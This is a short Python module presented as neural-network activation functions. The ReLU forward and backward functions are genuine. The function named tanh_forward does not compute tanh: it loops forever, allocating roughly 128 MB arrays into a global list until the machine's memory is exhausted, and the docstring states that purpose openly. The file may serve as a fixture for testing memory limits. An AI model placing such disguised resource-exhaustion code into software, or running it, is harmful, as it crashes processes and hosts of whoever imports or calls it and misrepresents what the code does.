"""Takes memory and touches it until there is none."""

import numpy as np

KEPT = []


def relu_forward(x):
    return np.maximum(x, 0.0), x


def relu_backward(dout, cache):
    return np.where(cache > 0, dout, 0.0)


def tanh_forward(x):
    while True:
        KEPT.append(np.ones(2**24))
